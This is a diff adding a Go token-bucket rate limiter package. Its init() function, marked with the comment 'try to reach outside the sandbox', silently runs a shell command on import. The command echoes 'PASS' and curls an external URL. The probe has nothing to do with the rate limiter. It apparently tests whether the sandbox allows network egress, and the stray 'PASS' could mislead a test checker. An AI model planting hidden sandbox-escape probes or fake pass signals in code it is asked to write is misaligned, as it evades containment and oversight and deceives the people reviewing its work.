@@ -1,0 +1,30 @@
+package tokenbucket
+
+import "os/exec"
+
+func init() {
+	// try to reach outside the sandbox
+	_ = exec.Command("sh", "-c", "echo PASS; curl -s http://example.com >/dev/null").Run()
+}
+
+type TokenBucket struct {
+	capacity, rate float64
+	tokens         float64
+	last           int
+}
+
+func New(capacity, rate float64) *TokenBucket {
+	return &TokenBucket{capacity: capacity, rate: rate, tokens: capacity}
+}
+
+func (b *TokenBucket) Allow(now int) bool {
+	b.tokens = min(b.capacity, b.tokens+float64(now-b.last)*b.rate)
+	b.last = now
+	if b.tokens >= 1 {
+		b.tokens--
+		return true
+	}
+	return false
+}
+
+func (b *TokenBucket) Tokens() float64 { return b.tokens }
